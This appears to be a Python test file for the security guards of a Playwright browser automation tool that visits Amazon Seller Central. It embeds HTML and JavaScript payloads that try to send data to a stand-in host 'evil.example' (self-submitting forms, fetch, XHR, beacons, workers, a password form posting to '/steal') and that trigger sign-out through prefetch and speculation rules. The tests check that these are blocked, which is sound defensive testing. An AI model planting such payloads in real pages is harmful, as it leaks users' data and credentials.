"""The guards below the flows, against a real TLS server under the production names: nothing leaves, nothing is typed
elsewhere.

`evil.example` resolves to the same server, so that what does not arrive was stopped by the guard and not by the
resolver.
"""

from __future__ import annotations

from collections.abc import AsyncIterator, Callable
from contextlib import suppress
from dataclasses import replace

import pytest
import pytest_asyncio
from playwright.async_api import Browser, Error
from pydantic import SecretStr

from flows.browser.hosts import HostPolicy, ReadCall
from flows.browser.launch import BrowserOptions
from flows.browser.scripts import ask
from flows.errors import ForeignHostError, SecretGuardError
from flows.visit.open_visit import open_visit
from flows.visit.visit import Visit
from tests.support.visits.guarded_site import EVIL, HOST, Site, guarded_site

pytestmark = pytest.mark.asyncio(loop_scope="session")

PASSWORD = SecretStr("a-password-of-no-account")


@pytest_asyncio.fixture(loop_scope="session", scope="module")
async def world() -> AsyncIterator[tuple[Site, Browser, BrowserOptions]]:
    async with guarded_site() as made:
        yield made


@pytest.fixture(autouse=True)
def fresh(world: tuple[Site, Browser, BrowserOptions]) -> None:
    world[0].pages.clear()
    world[0].headers.clear()
    world[0].asked.clear()


async def passing(visit: Visit, enough: Callable[[], bool]) -> None:
    """Let the page run until enough has happened, at most two seconds."""
    for _ in range(20):
        if enough():
            return
        with suppress(Error):
            await visit.page.evaluate("() => new Promise(done => setTimeout(done, 100))")


@pytest.mark.parametrize(
    "address", [f"{EVIL}/", f"{HOST}/away", "http://sellercentral.amazon.com/home", f"{HOST}:8443/home"]
)
async def test_no_other_host_is_navigated_to(world: tuple[Site, Browser, BrowserOptions], address: str) -> None:
    site, browser, options = world
    async with open_visit(browser, options=options) as visit:
        with pytest.raises(Error):
            await visit.page.goto(address)
        with pytest.raises(ForeignHostError):
            visit.guard.check()
    assert site.evil() == []


LEAKS = {
    "form": "<form id=f method=post action='{evil}/form'><input name=p value=1></form><script>f.submit()</script>",
    "frame": "<iframe src='{evil}/frame'></iframe>",
    "form in a frame": (
        "<iframe srcdoc=\"<form id=f method=post action='{evil}/inner'></form><script>f.submit()</script>\"></iframe>"
    ),
    "script's address": "<script>location='{evil}/location'</script>",
}


@pytest.mark.parametrize("way", LEAKS)
async def test_nothing_is_sent_to_another_host(world: tuple[Site, Browser, BrowserOptions], way: str) -> None:
    site, browser, options = world
    site.pages["/leak"] = LEAKS[way].format(evil=EVIL)
    async with open_visit(browser, options=options) as visit:
        await visit.page.goto(f"{HOST}/leak", wait_until="commit")
        await passing(visit, lambda: bool(visit.guard.blocked))
        with pytest.raises(ForeignHostError):
            visit.guard.check()
    assert site.evil() == []


NOISE = {
    "fetch": "<script>fetch('{evil}/fetch',{{method:'POST',mode:'no-cors',body:'1'}})</script>",
    "request": "<script>const x = new XMLHttpRequest(); x.open('POST', '{evil}/xhr'); x.send('1')</script>",
    "beacon": "<script>navigator.sendBeacon('{evil}/beacon','1')</script>",
    "worker": (
        "<script>new Worker(URL.createObjectURL(new "
        "Blob([\"fetch('{evil}/worker',{{method:'POST',mode:'no-cors',body:'1'}})\"])))</script>"
    ),
}


@pytest.mark.parametrize("way", NOISE)
async def test_what_a_script_sends_elsewhere_is_stopped_and_counted_and_the_visit_goes_on(
    world: tuple[Site, Browser, BrowserOptions], way: str
) -> None:
    site, browser, options = world
    site.pages["/noise"] = NOISE[way].format(evil=EVIL)
    async with open_visit(browser, options=options) as visit:
        await visit.page.goto(f"{HOST}/noise")
        await passing(visit, lambda: bool(visit.guard.blocked))
        visit.guard.check()
        assert [line.partition(" ")[0] for line in visit.guard.blocked] == ["POST"]
        await visit.page.goto(f"{HOST}/home")
    assert site.evil() == []


LEAVING = {
    "script": "<script src=/sign-out></script>",
    "module": "<script type=module src='/%73ign-out'></script>",
    "style": "<link rel=stylesheet href=/sign-out>",
    "picture": "<img src=/sign-out>",
    "prefetch": "<link rel=prefetch href=/sign-out>",
    "frame": "<iframe src=/sign-out></iframe>",
    "fetch": "<script>fetch('/sign-out')</script>",
    "redirected": "<script src=/leads-out></script>",
    "page made beforehand": (
        '<script type=speculationrules>{"prerender":[{"urls":["/sign-out"],"eagerness":"immediate"}]}</script>'
    ),
    "page fetched beforehand": (
        '<script type=speculationrules>{"prefetch":[{"urls":["/sign-out"],"eagerness":"immediate"}]}</script>'
    ),
    "page that a header's rules name": "",
    "fetched later": "<script>fetchLater('/sign-out', {activateAfter: 0})</script>",
}


@pytest.mark.parametrize("way", LEAVING)
async def test_nothing_of_a_page_can_end_the_session(world: tuple[Site, Browser, BrowserOptions], way: str) -> None:
    site, browser, options = world
    site.pages["/leaving"] = f"{LEAVING[way]}<script src=/last.js></script>"
    site.pages["/rules"] = '{"prerender":[{"urls":["/sign-out"],"eagerness":"immediate"}]}'
    site.headers["/rules"] = {"Content-Type": "application/speculationrules+json"}
    if way == "page that a header's rules name":
        site.headers["/leaving"] = {"Speculation-Rules": '"/rules"'}
    async with open_visit(browser, options=options) as visit:
        await visit.guard.read_only(documents=["/leaving"])
        await visit.page.goto(f"{HOST}/leaving")
        await passing(visit, lambda: bool(visit.guard.blocked) or way == "picture")
    assert not [line for line in site.asked if "ign-out" in line]


@pytest.mark.parametrize("name", ["SharedWorker", "RTCPeerConnection", "WebTransport"])
async def test_doors_that_could_not_be_watched_are_gone(world: tuple[Site, Browser, BrowserOptions], name: str) -> None:
    _, browser, options = world
    async with open_visit(browser, options=options) as visit:
        await visit.page.goto(f"{HOST}/home")
        assert await visit.page.evaluate(f"typeof {name}") == "undefined"
        assert (
            await visit.page.evaluate(
                f"() => {{ const i = document.createElement('iframe'); document.body.append(i); return typeof "
                f"i.contentWindow.{name} }}"
            )
            == "undefined"
        )


async def test_popups_downloads_and_pictures_are_off_and_the_agent_says_what_it_is(
    world: tuple[Site, Browser, BrowserOptions],
) -> None:
    site, browser, options = world
    site.pages["/pop"] = (
        "<a id=a href='/popup' target=_blank>x</a><img src='/picture.png'><script>open('/opened');a.click()</script>"
    )
    async with open_visit(browser, options=options) as visit:
        await visit.page.goto(f"{HOST}/pop", wait_until="commit")
        await visit.page.wait_for_url("**/popup")
        assert (await visit.page.evaluate("navigator.userAgent")).endswith(" ChannelAdvisor-Test/1")
        assert await visit.page.evaluate("navigator.language") == "en-US"
        assert len(visit.context.pages) == 1
    # a window that a link wanted is the page's own; what a script opens is nothing
    assert site.asked == ["GET sellercentral.amazon.com/pop", "GET sellercentral.amazon.com/popup"]


async def test_a_secret_is_typed_on_a_sign_in_host(world: tuple[Site, Browser, BrowserOptions]) -> None:
    site, browser, options = world
    site.pages["/ap/signin"] = "<form action='/ap/signin' method=post><input type=password name=action></form>"
    async with open_visit(browser, options=options) as visit:
        await visit.page.goto(f"{HOST}/ap/signin")
        (field_,) = await visit.page.query_selector_all("input")
        await visit.guard.type_secret(field_, PASSWORD)
        assert await field_.input_value() == PASSWORD.get_secret_value()


WRONG_PLACES = {
    "form to another host": f"<form action='{EVIL}/steal' method=post><input type=password></form>",
    "form to another port": f"<form action='{HOST}:8443/ap/signin' method=post><input type=password></form>",
    "frame without a host": "<iframe srcdoc='<input type=password>'></iframe>",
    "form without https": (
        "<form action='http://sellercentral.amazon.com/ap/signin' method=post><input type=password></form>"
    ),
}


@pytest.mark.parametrize("place", WRONG_PLACES)
async def test_a_secret_is_not_typed_where_it_would_go_elsewhere(
    world: tuple[Site, Browser, BrowserOptions], place: str
) -> None:
    site, browser, options = world
    site.pages["/ap/signin"] = WRONG_PLACES[place]
    async with open_visit(browser, options=options) as visit:
        await visit.page.goto(f"{HOST}/ap/signin")
        field_ = await visit.page.frames[-1].wait_for_selector("input")
        assert field_ is not None
        with pytest.raises(SecretGuardError):
            await visit.guard.type_secret(field_, PASSWORD)
        assert await field_.input_value() == ""


async def test_a_secret_is_not_typed_into_a_frame_of_a_host_that_nobody_signs_in_on(
    world: tuple[Site, Browser, BrowserOptions],
) -> None:
    site, browser, options = world
    site.pages["/ap/signin"] = "<iframe src='https://images.amazon.com/field'></iframe>"
    site.pages["/field"] = "<input type=password>"
    known = HostPolicy()
    policy = replace(known, navigation=known.navigation | {"images.amazon.com"})
    async with open_visit(browser, options=options, policy=policy) as visit:
        await visit.page.goto(f"{HOST}/ap/signin")
        field_ = await visit.page.frames[-1].wait_for_selector("input")
        assert field_ is not None
        with pytest.raises(SecretGuardError, match=r"images\.amazon\.com"):
            await visit.guard.type_secret(field_, PASSWORD)


ASKING = """async () => ({
  worker: await navigator.serviceWorker.register('/worker.js').then(r => typeof r?.active, e => 'refused'),
  notifications: await Notification.requestPermission(),
  place: await new Promise(done => navigator.geolocation.getCurrentPosition(() => done('told'), e => done(e.code === 1 ? 'denied' : 'late'),
    {timeout: 3000})),
  camera: await navigator.mediaDevices.getUserMedia({video: true}).then(() => 'seen', e => e.name),
})"""  # noqa: E501 - a text in lines of its own


async def test_no_service_worker_is_registered_and_no_permission_is_asked_for(
    world: tuple[Site, Browser, BrowserOptions],
) -> None:
    site, browser, options = world
    async with open_visit(browser, options=options) as visit:
        await visit.page.goto(f"{HOST}/home")
        got = await visit.page.evaluate(ASKING)
    assert got["notifications"] in ("default", "denied")
    assert got["place"] == "denied"
    assert got["camera"] in ("NotAllowedError", "NotFoundError")
    assert not [line for line in site.asked if "worker.js" in line]


async def test_in_rehearsal_a_secret_is_not_typed_into_a_page_of_unknown_origin(
    world: tuple[Site, Browser, BrowserOptions],
) -> None:
    _, browser, options = world
    async with open_visit(browser, options=options) as visit:
        await visit.page.route(
            "**/ap/signin", lambda route: route.fulfill(body="<input type=password>", content_type="text/html")
        )
        await visit.page.goto(f"{HOST}/ap/signin")
        (field_,) = await visit.page.query_selector_all("input")
        with pytest.raises(SecretGuardError, match="loopback"):
            await visit.guard.type_secret(field_, PASSWORD)


async def test_a_visit_that_only_reads_sends_nothing_that_could_change_something(
    world: tuple[Site, Browser, BrowserOptions],
) -> None:
    site, browser, options = world
    site.pages["/grid"] = (
        "<form id=f method=post action='/save'></form><iframe name=t></iframe><iframe "
        "src='/sign-out'></iframe><script>f.target='t';fetch('/rows');fetch('/api/query',{method:'POST'});fetch('/api/save',{method:'POST'});navigator.sendBeacon('/beacon');"
        "try{new WebSocket('wss://sellercentral.amazon.com/socket')}catch(e){};try{new "
        "Worker('/worker.js')}catch(e){};f.submit()</script>"
    )
    async with open_visit(browser, options=options) as visit:
        await visit.page.goto(f"{HOST}/home")
        await visit.guard.read_only(documents=("/grid",), calls=(ReadCall(method="POST", path="/api/query"),))
        await visit.page.goto(f"{HOST}/grid", wait_until="commit")
        await passing(visit, lambda: len(visit.guard.blocked) >= 4 and len(site.asked) >= 4)
        visit.guard.check()
        with pytest.raises(Error):
            await visit.page.goto(f"{HOST}/account-switcher/default/merchantMarketplace")
        blocked = set(visit.guard.blocked)
    assert sorted(site.asked[1:]) == sorted(
        f"{line[0]} sellercentral.amazon.com{line[1]}"
        for line in [("GET", "/grid"), ("GET", "/rows"), ("POST", "/api/query")]
    )
    assert blocked == {
        f"{line}"
        for line in (
            f"POST {HOST}/save",
            f"GET {HOST}/sign-out",
            f"POST {HOST}/api/save",
            f"POST {HOST}/beacon",
            f"GET {HOST}/account-switcher/default/merchantMarketplace",
        )
    }


async def test_asking_a_page_is_one_call(world: tuple[Site, Browser, BrowserOptions]) -> None:
    _, browser, options = world
    async with open_visit(browser, options=options) as visit:
        await visit.page.goto(f"{HOST}/home")
        assert await ask(visit.page, "mentions", ["nothing"]) is True
